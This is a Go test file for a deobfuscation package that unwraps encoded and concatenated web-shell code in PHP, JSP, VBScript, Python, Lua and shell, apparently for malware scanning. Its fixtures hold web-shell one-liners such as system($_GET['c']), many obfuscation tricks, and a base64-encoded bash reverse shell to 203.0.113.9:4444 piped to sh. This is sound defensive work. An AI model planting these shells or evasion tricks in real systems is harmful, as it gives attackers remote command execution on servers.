package decode

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"
)

func compress(t testing.TB, kind string, s []byte) []byte {
	var b bytes.Buffer
	var w interface {
		Write([]byte) (int, error)
		Close() error
	}
	switch kind {
	case "gzip":
		w = gzip.NewWriter(&b)
	case "zlib":
		w = zlib.NewWriter(&b)
	default:
		w, _ = flate.NewWriter(&b, 9)
	}
	w.Write(s)
	w.Close()
	return b.Bytes()
}

// sq quotes s as a PHP single-quoted literal.
func sq(s string) string { return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(s) + "'" }

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// last returns the deepest layer's chain and text.
func last(r Result) (string, string) {
	l := r.Layers[len(r.Layers)-1]
	return l.ChainString(), string(l.Text())
}

func TestLayers(t *testing.T) {
	payload := []byte("system($_GET['c']);")
	tests := []struct {
		name  string
		s     Syntax
		src   string
		chain string // of the deepest layer
		text  string // substring of the deepest layer's text
	}{
		{"base64", PHP, "<?php eval(base64_decode('" + b64(payload) + "')); ?>", "base64", "system($_GET['c'])"},
		{"gzinflate", PHP, "<?php eval(gzinflate(base64_decode('" + b64(compress(t, "flate", payload)) + "'))); ?>", "base64 > gzinflate", "system($_GET"},
		{"gzuncompress", PHP, "<?php eval(gzuncompress(base64_decode('" + b64(compress(t, "zlib", payload)) + "'))); ?>", "base64 > gzuncompress", "system($_GET"},
		{"gzdecode", PHP, "<?php eval(gzdecode(base64_decode('" + b64(compress(t, "gzip", payload)) + "'))); ?>", "base64 > gzdecode", "system($_GET"},
		{"rot13", PHP, `<?php eval(str_rot13('flfgrz($_TRG[\'p\']);')); ?>`, "rot13", "system($_GET"},
		{"strrev", PHP, `<?php eval(strrev(';)]\'c\'[TEG_$(metsys')); ?>`, "strrev", "system($_GET"},
		{"hex", PHP, "<?php eval(hex2bin('73797374656d28245f4745545b2763275d293b')); ?>", "hex", "system($_GET"},
		{"url", PHP, "<?php eval(urldecode('system%28%24_GET%5B%27c%27%5D%29%3B')); ?>", "url", "system($_GET"},
		{"chr", PHP, "<?php eval(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).chr(40).chr(36).chr(95).chr(71).chr(69).chr(84).chr(91).chr(39).chr(99).chr(39).chr(93).chr(41).chr(59)); ?>", "chr", "system($_GET"},
		{"escapes", PHP, `<?php eval("\x73\x79\x73\x74\x65\x6d\x28\x24\x5f\x47\x45\x54\x5b\x27\x63\x27\x5d\x29\x3b"); ?>`, "escape", "system($_GET"},
		{"unnamed blob", PHP, "<?php $x = '" + b64(compress(t, "flate", payload)) + "'; $f($x); ?>", "base64 > gzinflate", "system($_GET"},
		{"three layers", PHP, "<?php eval(base64_decode('" + b64([]byte("eval(str_rot13("+sq(Rot13("eval(strrev("+sq(Reverse(string(payload)))+"));"))+"));")) + "')); ?>", "base64 > rot13 > strrev", "system($_GET"},
		{"fromCharCode", JavaScript, "eval(String.fromCharCode(97,108,101,114,116,40,49,41,59,32,101,118,97,108,40,49,41));", "chr", "eval(1)"},
		{"Java getDecoder", Java, `<% engine.eval(new String(java.util.Base64.getDecoder().decode("` + b64([]byte(`java.lang.Runtime.getRuntime().exec(request.getParameter("c"))`)) + `"))); %>`, "base64", "getRuntime"},
		{"VBScript Chr", VBScript, `<% Execute(Chr(101) & Chr(118) & Chr(97) & Chr(108) & Chr(32) & Chr(114) & Chr(101) & Chr(113) & Chr(117) & Chr(101) & Chr(115) & Chr(116) & Chr(40) & Chr(34) & Chr(120) & Chr(34) & Chr(41)) %>`, "chr", `eval request("x")`},
		{"Python", Python, "import base64\nexec(base64.b64decode('" + b64([]byte("import os\nos.system('id')\n")) + "'))\n", "base64", "os.system"},
		{"Lua", Lua, "--[[ loader ]]\n-- " + "io.popen('x')\nlocal f = loadstring(ngx.decode_base64('" + b64([]byte("local c = ngx.var.arg_c\nio.popen(c):read('*a')\n")) + "'))\nf()\n", "base64", "io.popen(c)"},
		{"shell blob", Plain, "echo " + b64([]byte("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")) + " | base64 -d | sh\n", "base64", "/dev/tcp/"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := Layers([]byte(tc.src), tc.s, Limits{})
			chain, text := last(r)
			if chain != tc.chain || !strings.Contains(text, tc.text) {
				for _, l := range r.Layers {
					t.Logf("[%s] %q", l.ChainString(), l.Text())
				}
				t.Fatalf("deepest layer [%s] %q, want [%s] with %q", chain, text, tc.chain, tc.text)
			}
		})
	}
}

func TestNormalize(t *testing.T) {
	tests := []struct {
		name string
		s    Syntax
		src  string
		want string
		not  string
	}{
		{"comments dropped", PHP, "<?php /** run `$_POST['a']` */ // system($x)\n# eval($y)\necho 1; ?>", "echo 1;", "system"},
		{"concatenation joined", PHP, "<?php $f = 'sy' . 'st' . \"em\"; ?>", "$f = 'system';", ""},
		{"constant variable folded into call", PHP, "<?php $f = 'sys'.'tem'; $f($_GET['c']); ?>", "system($_GET['c'])", ""},
		{"str_replace", PHP, "<?php $f = str_replace('x', '', 'sxyxsxtxexm'); ?>", "'system'", ""},
		{"strings stay strings", PHP, "<?php echo 'a /* not a comment */ b'; ?>", "/* not a comment */", ""},
		{"markup kept", PHP, "<p>don't</p><?php echo 1; ?><p>it's</p>", "<p>don't</p><?php echo 1; ?><p>it's</p>", ""},
		{"Java unicode escapes", Java, `<% Run\u0074ime.getRuntime(); %>`, "Runtime.getRuntime()", ""},
		{"VBScript comments", VBScript, "<%\r\n' Execute x\r\nREM Execute y\r\nResponse.Write 1\r\n%>", "Response.Write 1", "Execute"},
		{"JSPX entities", Java, `<jsp:scriptlet>if (a &lt; b &amp;&amp; c) { x(); }</jsp:scriptlet>`, "a < b && c", ""},
		{"Python getattr", Python, "getattr(os, 'sys' + 'tem')(c)\n", "os.system(c)", ""},
		{"JavaScript brackets", JavaScript, "global['ev' + 'al'](x);", "global.eval(x)", ""},
		{"substr", PHP, "<?php $a = substr('1assert', 1); $a($x); ?>", "assert($x)", ""},
		{"strtr", PHP, "<?php $a = strtr('azxcvt', 'zxcv', 'sser'); $a($x); ?>", "assert($x)", ""},
		{"substr_replace", PHP, `<?php $a = substr_replace("asxxx", "sert", 2); $a($x); ?>`, "assert($x)", ""},
		{"trim and case", PHP, "<?php $a = strtolower(trim(' ASSERT ')); $a($x); ?>", "assert($x)", ""},
		{"implode", PHP, "<?php $a = implode('', array('as', 'sert')); $a($x); ?>", "assert($x)", ""},
		{"string XOR", PHP, "<?php $a = ('!' ^ '@') . 'ssert'; $a($x); ?>", "assert($x)", ""},
		{"variable variable", PHP, "<?php $b = '_'.'POST'; $c = $$b; ?>", "$c = $_POST;", ""},
		{"braced variable name", PHP, `<?php $c = ${'_PO' . 'ST'}; ?>`, "$c = $_POST;", ""},
		{"callback name argument", PHP, "<?php $f = 'assert'; array_map($f, $a); ?>", "array_map('assert', $a)", ""},
		{"XOR after concatenation", PHP, "<?php $a = 'a' ^ 'b' . 'c'; $f = ('2' ^ 'A') . 'ystem'; ?>", "$f = 'system';", "'b'"},
		{"two constant variables joined", PHP, "<?php $a = <<<X\nsys\nX;\n$b = 'tem';\n$f = $a . $b;\n$f($x); ?>", "system($x)", ""},
		{"literal array elements", PHP, "<?php $p = ['pas', 'st', 'hru'];\n$f = $p[0] . $p[1] . $p[2];\n$f($x); ?>", "passthru($x)", ""},
		{"literal array keys", PHP, "<?php $p = array('a' => 'as', 'b' => 'sert'); $f = $p['a'] . $p['b']; $f($x); ?>", "assert($x)", ""},
		{"literal array joined", PHP, "<?php $p = [\n 'sh',\n 'ell_',\n 'exec'\n];\n$f = join('', $p);\ncall_user_func($f, $x); ?>", "call_user_func('shell_exec', $x)", ""},
		{"written array left alone", PHP, "<?php $p = ['as', 'sert']; $p[1] = 'x'; $f = $p[0] . $p[1]; $f($x); ?>", "$p[0]", "assert"},
		{"array handed to a call left alone", PHP, "<?php $p = ['as', 'sert']; shuffle($p); $f = implode('', $p); $f($x); ?>", "implode('', $p)", "assert"},
		{"strtr with a map", PHP, "<?php $a = strtr('a#ss#e#rt', array('#' => '', 'zz' => 'q')); $a($x); ?>", "assert($x)", ""},
		{"strtr map longest key first", PHP, "<?php $a = strtr('sysXYtem', ['X' => 'q', 'XY' => '']); $a($x); ?>", "system($x)", ""},
		{"junk held in a variable", PHP, "<?php $j = '%@'; $r = str_replace($j, '', 'st%@r_r%@epl%@ace'); $f = $r($j, '', 'sy%@st%@em'); $f($x); ?>", "system($x)", ""},
		{"map key held in a variable", PHP, "<?php $j = '~'; $f = strtr('as~se~rt', [$j => '']); $f($x); ?>", "assert($x)", ""},
		{"variable junk written twice left alone", PHP, "<?php $j = '~'; $j = 's'; $f = str_replace($j, '', 'as~sert'); ?>", "str_replace($j", ""},
		{"Java byte array", Java, `<% Class c = Class.forName(new String(new byte[] {106, 97, 118, 97})); %>`, `Class.forName("java")`, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := Layers([]byte(tc.src), tc.s, Limits{})
			got := string(r.Layers[0].Text())
			if !strings.Contains(got, tc.want) || tc.not != "" && strings.Contains(got, tc.not) {
				t.Fatalf("got %q, want %q without %q", got, tc.want, tc.not)
			}
		})
	}
}

func TestBounds(t *testing.T) {
	// a gzip bomb: 64 MB of zeros, compressed
	bomb := compress(t, "gzip", make([]byte, 64<<20))
	r := Layers([]byte("<?php eval(gzdecode(base64_decode('"+b64(bomb)+"'))); ?>"), PHP, Limits{MaxBytes: 1 << 20})
	if r.Cut != "bytes" {
		t.Errorf("gzip bomb: cut %q, want bytes", r.Cut)
	}
	// deeper than the depth bound
	code := "system($_GET['c']);"
	for i := 0; i < 8; i++ {
		code = "eval(base64_decode('" + b64([]byte(code)) + "'));"
	}
	r = Layers([]byte("<?php "+code+" ?>"), PHP, Limits{MaxDepth: 3})
	if r.Cut != "depth" || len(r.Layers) != 4 {
		t.Errorf("nested 8 deep with depth 3: cut %q, %d layers, want depth and 4", r.Cut, len(r.Layers))
	}
	// time: a deadline already past stops at once
	start := time.Now()
	r = Layers([]byte(strings.Repeat("<?php eval(str_rot13('riny(1);')); ?>", 20000)), PHP, Limits{Timeout: time.Nanosecond})
	if r.Cut != "time" || time.Since(start) > 5*time.Second {
		t.Errorf("timeout: cut %q after %v", r.Cut, time.Since(start))
	}
}

func FuzzLayers(f *testing.F) {
	for _, s := range []string{
		"<?php eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>",
		"<?php $a = \"\\x73\\u{79}\\163\"; $$a = <<<EOT\n{$_GET['x']} $y\nEOT;\n`ls $a`; ?>",
		"<% String s = \"a\" + 'b'; %><jsp:scriptlet>x &lt; y</jsp:scriptlet><%-- c --%>",
		"<%\r\nExecute Chr(101) & \"x\"\"y\" _\r\n & z\r\n%>",
		"#!/usr/bin/perl\nmy $x = qx{ls}; s/a/b/g; print q(a(b)c);\n",
		"x = r'a\\b' + b\"c\" \"d\" '''e\nf'''\n",
		"%x(ls) %w[a b] =begin\nc\n=end\n",
		"GIF89a\x00\x01<?php system($_GET['c']); ?>",
		"<?php $r = range('a', 'z'); foreach (range('A', 'C') as $c) { $r[] = $c; } array_push($r, '(', ')');\n$k = explode('.', '4.2.7.14'); foreach ($k as $i => $v) { $o .= \"$r[$v]\"; }\n$f = $r[18] .\n $r[24]; $c = implode('', array_map(fn($i) => $r[$i], [1, 2])); eval(base64_decode(base64_encode($o))); ?>",
	} {
		f.Add([]byte(s))
	}
	syntaxes := []Syntax{PHP, Java, CSharp, VBScript, JavaScript, Python, Perl, Ruby, Shell, Lua, Plain}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, s := range syntaxes {
			r := Layers(data, s, Limits{MaxBytes: 1 << 20, Timeout: time.Second})
			if len(r.Layers) == 0 {
				t.Fatalf("%s: no layers", s.Name)
			}
			for _, l := range r.Layers {
				_ = l.Text()
			}
		}
	})
}

// naiveRuns is blobRuns as one byte at a time: every run of blob bytes at least 2*minBlob long.
func naiveRuns(s string) []string {
	var out []string
	start := -1
	for i := 0; i <= len(s); i++ {
		in := i < len(s) && blobByte[s[i]]
		switch {
		case in && start < 0:
			start = i
		case !in && start >= 0:
			if i-start >= 2*minBlob && len(out) < 64 {
				out = append(out, s[start:i])
			}
			start = -1
		}
	}
	return out
}

// blobRuns and Worth skip through text a window at a time; they find exactly the runs a
// byte-by-byte reading does, whatever the lengths of runs and gaps.
func TestBlobRunsSkipping(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	for n := 0; n < 3000; n++ {
		var b strings.Builder
		for b.Len() < rng.IntN(600) {
			run := rng.IntN(3 * minBlob)
			if rng.IntN(4) == 0 {
				run = 2*minBlob - 1 + rng.IntN(3) // around the threshold
			}
			for i := 0; i < run; i++ {
				b.WriteByte("aZ09+/="[rng.IntN(7)])
			}
			for i := rng.IntN(4); i >= 0; i-- {
				b.WriteByte(" \n-.\"\x00"[rng.IntN(6)])
			}
		}
		s := b.String()
		if rng.IntN(2) == 0 {
			s = strings.TrimRight(s, " \n-.\"\x00") // a run may end the text
		}
		want := naiveRuns(s)
		if got := blobRuns(s); !slices.Equal(got, want) {
			t.Fatalf("blobRuns(%q) = %q, want %q", s, got, want)
		}
		if got := Worth([]byte(s)); got != (len(want) > 0) {
			t.Fatalf("Worth(%q) = %v, want %v", s, got, len(want) > 0)
		}
	}
}

// Inflate reuses its decompressors: one after another, each kind of stream still comes out
// whole, whatever kind the reader it gets last served.
func TestInflateReuse(t *testing.T) {
	want := []byte("system($_GET['c']); // a payload long enough to compress")
	for i := 0; i < 20; i++ {
		for _, kind := range []string{"zlib", "deflate", "gzip", "deflate", "zlib", "gzip"} {
			got, _, ok := Inflate(compress(t, kind, want), 1<<20)
			if !ok || !bytes.Equal(got, want) {
				t.Fatalf("round %d, %s: got %q, %v", i, kind, got, ok)
			}
		}
		if _, _, ok := Inflate([]byte("not compressed at all, not even a little"), 1<<20); ok {
			t.Fatalf("round %d: plain text inflated", i)
		}
	}
}

// Java's string literals interpolate nothing: "#{" and "${" open no expression that runs on to a
// brace in a later literal, so the expression between two literals stays code.
func TestJavaLiteralsDoNotInterpolate(t *testing.T) {
	toks, _ := Lex([]byte(`String x = "#{" + expr + "}"; String y = "${" + other + "}";`), Java.Code())
	var idents []string
	for _, tk := range toks {
		if tk.Kind == Str && len(tk.Interp) > 0 {
			t.Errorf("literal %q interpolates %q", tk.Text, tk.Interp)
		}
		if tk.Kind == Ident {
			idents = append(idents, tk.Text)
		}
	}
	if !slices.Contains(idents, "expr") || !slices.Contains(idents, "other") {
		t.Errorf("identifiers between literals lost: %v", idents)
	}
	// PHP's still do
	toks, _ = Lex([]byte(`<?php $s = "run {$cmd} now";`), PHP)
	found := false
	for _, tk := range toks {
		if tk.Kind == Str && slices.Contains(tk.Interp, "$cmd") {
			found = true
		}
	}
	if !found {
		t.Errorf("PHP interpolation lost: %v", toks)
	}
}

// TestRevealedBySpellings holds the search for a keyword's rot13 and reversed spellings to
// undoing the transform and searching the result, on strings built from keywords' pieces.
func TestRevealedBySpellings(t *testing.T) {
	undone := func(before, after string) bool {
		lb, la := strings.ToLower(before), strings.ToLower(after)
		for _, k := range revealKeys {
			if strings.Contains(la, k) && !strings.Contains(lb, k) {
				return true
			}
		}
		return false
	}
	var pieces []string
	for i, k := range revealKeys {
		pieces = append(pieces, k, rot13Keys[i], reversedKeys[i], strings.ToUpper(rot13Keys[i]), k[:2], rot13Keys[i][2:])
	}
	pieces = append(pieces, " ", "(", "x", "Q", ";")
	r := rand.New(rand.NewPCG(3, 4))
	found := [2]int{}
	for n := 0; n < 20000; n++ {
		var b strings.Builder
		for k := r.IntN(5) + 1; k > 0; k-- {
			b.WriteString(pieces[r.IntN(len(pieces))])
		}
		v := b.String()
		low := lowerASCIIString(v)
		for i, c := range []struct {
			shown []string
			undo  func(string) string
		}{{rot13Keys, Rot13}, {reversedKeys, Reverse}} {
			got, want := revealedBy(low, revealKeys, c.shown), undone(v, c.undo(v))
			if got != want {
				t.Fatalf("%q: transform %d revealed %v, undoing it says %v", v, i, got, want)
			}
			if got {
				found[i]++
			}
		}
	}
	if found[0] < 1000 || found[1] < 1000 {
		t.Errorf("revealed %v of 20000: the strings do not test both ways", found)
	}
}

// TestJoinsAsStrRules holds the linear join of literal runs to the joins strRules makes one
// at a time, on code built from literals, concatenations, operators that bind tighter or
// looser, calls, casts, interpolations and encoded constants, in every syntax with a
// concatenation operator: the layers and what folded them must not differ.
func TestJoinsAsStrRules(t *testing.T) {
	defer func() { joinFirst = true }()
	pieces := []string{`'a'`, `"b"`, `'sys'`, `'tem'`, ` . `, ` + `, ` & `, `.`, `+`, `*`, `-`, `/`, `%`, `^`, `!`, `->`, `::`,
		`(`, `)`, `[`, `]`, `,`, `;`, "\n", `$x`, `x`, `"$x"`, "`id`", `/re/`, `chr(115)`, `strrev('metsys')`,
		`base64_decode('c3lzdGVt')`, `("ev" . "al")`, `('!' ^ '@')`, `${'_PO' . 'ST'}`, `(string)`, `eval(`, `system(`}
	r := rand.New(rand.NewPCG(5, 6))
	joined := 0
	for _, s := range []Syntax{PHP.Code(), Java.Code(), CSharp.Code(), VBScript.Code(), JavaScript, Python, Perl, Ruby} {
		for n := 0; n < 3000; n++ {
			var b strings.Builder
			for k := r.IntN(12) + 1; k > 0; k-- {
				b.WriteString(pieces[r.IntN(len(pieces))])
			}
			src := []byte(b.String())
			joinFirst = false
			want := Layers(src, s, Limits{})
			joinFirst = true
			got := Layers(src, s, Limits{})
			if len(got.Layers) != len(want.Layers) || got.Cut != want.Cut {
				t.Fatalf("%s %q: %d layers (cut %q), one join at a time gives %d (cut %q)", s.Name, src, len(got.Layers), got.Cut, len(want.Layers), want.Cut)
			}
			for i := range got.Layers {
				g, w := got.Layers[i], want.Layers[i]
				if string(g.Text()) != string(w.Text()) || !slices.Equal(g.Chain, w.Chain) || !slices.Equal(g.Folds(), w.Folds()) || g.Folded != w.Folded {
					t.Fatalf("%s %q layer %d:\n%q %v folded=%v\none join at a time:\n%q %v folded=%v", s.Name, src, i, g.Text(), g.Folds(), g.Folded, w.Text(), w.Folds(), w.Folded)
				}
			}
			if got.Layers[0].Folded {
				joined++
			}
		}
	}
	if joined < 2000 {
		t.Errorf("%d of 24000 sources folded: the sources do not test the joins", joined)
	}
}

// A Python f-string's {expr} holes are what it interpolates; a plain or raw literal's braces
// are text. Perl's qq{} and qx{} and Ruby's %Q() and %x() interpolate as double quotes do.
// Lua's .. is one operator that joins literals, and two dots elsewhere stay two.
func TestPythonFStringsAndLuaConcat(t *testing.T) {
	for _, tc := range []struct {
		src  string
		want []string
	}{
		{`os.system(f"ping -c 1 {host}")`, []string{"host"}},
		{`os.system(F'{a} {b.c}')`, []string{"a", "b.c"}},
		{`os.system(rf"x {y}")`, []string{"y"}},
		{`print("{x}".format(x=1), r"{y}")`, nil},
	} {
		toks, _ := Lex([]byte(tc.src), Python.Code())
		var got []string
		for _, tk := range toks {
			if tk.Kind == Str {
				got = append(got, tk.Interp...)
			}
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s: interpolates %q, want %q", tc.src, got, tc.want)
		}
	}
	r := Layers([]byte("local c = 'io' .. '.po' .. 'pen' -- a comment\n"), Lua, Limits{})
	if _, text := last(r); !strings.Contains(text, `"io.popen"`) && !strings.Contains(text, `'io.popen'`) {
		t.Errorf("Lua concatenation not joined: %q", text)
	}
	for _, tc := range []struct {
		s   Syntax
		src string
	}{
		{Perl, "my $o = qx{ls $dir};"}, {Perl, "my $o = qq(cd $dir);"}, {Ruby, "o = %x(ls #{dir})"}, {Ruby, "o = %Q[cd #{dir}]"},
	} {
		toks, _ := Lex([]byte(tc.src), tc.s.Code())
		found := false
		for _, tk := range toks {
			if tk.Kind == Str && slices.ContainsFunc(tk.Interp, func(v string) bool { return strings.TrimPrefix(v, "$") == "dir" }) {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: the quote-like literal's interpolation is lost: %v", tc.src, toks)
		}
	}
	toks, _ := Lex([]byte("(1..5).each { |i| a..b }"), Ruby.Code())
	for _, tk := range toks {
		if tk.Text == ".." {
			t.Errorf("Ruby lexed a .. operator: %v", toks)
		}
	}
}

// TestPHPSplitRunnerNames: a function name split into a bare word and a literal (sy.'stem',
// which PHP before 8 reads as "system") or into literals right before the call ('sys'.'tem'(),
// which PHP's precedence reads as a call of tem() but whose author meant system()) is read as
// the runner it spells; a concatenation that spells nothing of the kind, a defined upper-case
// constant and a method call stay as written.
func TestPHPSplitRunnerNames(t *testing.T) {
	for _, tc := range []struct{ src, want string }{
		{"<?php sy.'stem'($_GET['c']);", "system($_GET['c'])"},
		{"<?php 'sys'.'tem'($_GET['c']);", "system($_GET['c'])"},
		{"<?php 'pas'.'st'.'hru'($_GET['c']);", "passthru($_GET['c'])"},
		{"<?php $x = 'as' . se . 'rt'; $x($_POST['z']);", "'assert'"},
		{"<?php echo 'Hello ' . 'wor'('x');", "'Hello '.wor('x')"},
		{"<?php echo PHP_EOL . 'x';", "PHP_EOL.'x'"},
		{"<?php $o->sy . 'stem';", "$o->sy.'stem'"},
	} {
		toks, _ := Lex([]byte(tc.src), PHP)
		toks, _ = Fold(toks, PHP)
		if got := string(Render(toks, PHP)); !strings.Contains(strings.ReplaceAll(got, " ", ""), strings.ReplaceAll(tc.want, " ", "")) {
			t.Errorf("%s: folded to %q, want %q in it", tc.src, got, tc.want)
		}
	}
}

func TestPHPStringArithmetic(t *testing.T) {
	for _, tc := range []struct{ src, want string }{
		// PHP's precedence: . before &, ^, |
		{"<?php $f = 'sys'.'t' ^ \"\\0\\0\\0\\0\" . 'em'; $f($_GET['c']);", "syst"},
		{"<?php $f = ('sy' | '  ') . ('st' & '\x7f\x7f') . (~\"\\x9a\\x92\"); $f($_GET['c']);", "system($_GET['c'])"},
		// bare words and comments between pieces, a key in a variable
		{"<?php $k = '!!!!!!'; $e = RxRU/* x */.'DL'; $f = $e ^ $k; $f($_GET['c']);", "system($_GET['c'])"},
		// a & after an operand is an operator, before a variable a reference
		{"<?php $a = 'sys'; $b = &$a; echo $b;", "&$a"},
		// numbers' constants stay
		{"<?php error_reporting(E_ALL & ~E_NOTICE);", "E_ALL&~E_NOTICE"},
		// characters picked out of a literal and of a variable holding one, twice assigned the same
		{"<?php $z = 'abcmetsy'; $z = 'abcmetsy'; $f = $z{6} . $z[7] . $z[6] . $z{5} . $z[4] . $z[3]; $f($_GET['c']);", "system($_GET['c'])"},
		{"<?php $f = 'tsy'[1] . 'tsy'{2}; echo $f;", "'sy'"},
		// rot13 of bytes that are no UTF-8 keeps them
		{"<?php echo str_rot13(\"a\\xffb\");", "'n\xffo'"},
	} {
		toks, _ := Lex([]byte(tc.src), PHP)
		toks, _ = Fold(toks, PHP)
		if got := string(Render(toks, PHP)); !strings.Contains(strings.ToLower(strings.ReplaceAll(got, " ", "")), strings.ToLower(strings.ReplaceAll(tc.want, " ", ""))) {
			t.Errorf("%s: folded to %q, want %q in it", tc.src, got, tc.want)
		}
	}
}

// TestJoinBudget: joining literals makes new ones, charged to the budget: a page that joins a
// variable to itself level after level ($b = $a . $a ... 200 times; $c = $b . $b ...) stays
// within the byte limit instead of growing a literal of hundreds of megabytes.
func TestJoinBudget(t *testing.T) {
	var b strings.Builder
	b.WriteString("<?php\n$v0 = '" + strings.Repeat("A", 100) + "';\n")
	for i := 1; i <= 3; i++ {
		fmt.Fprintf(&b, "$v%d = $v%d", i, i-1)
		for k := 0; k < 199; k++ {
			fmt.Fprintf(&b, " . $v%d", i-1)
		}
		b.WriteString(";\n")
	}
	b.WriteString("eval($v3);\n")
	toks, _ := Lex([]byte(b.String()), PHP)
	out, _ := Fold(toks, PHP)
	longest := 0
	for _, x := range out {
		longest = max(longest, len(x.Text))
	}
	if longest > DefaultMaxBytes {
		t.Fatalf("the folded page holds a literal of %d bytes, more than the budget of %d", longest, DefaultMaxBytes)
	}
	// an ordinary join still folds
	toks, _ = Lex([]byte("<?php $a = 'sys'; $b = 'tem'; $f = $a . $b; $f('id');"), PHP)
	out, _ = Fold(toks, PHP)
	if !slices.ContainsFunc(out, func(x Token) bool { return x.Text == "system" }) {
		t.Fatalf("'sys' . 'tem' not joined: %v", out)
	}
}
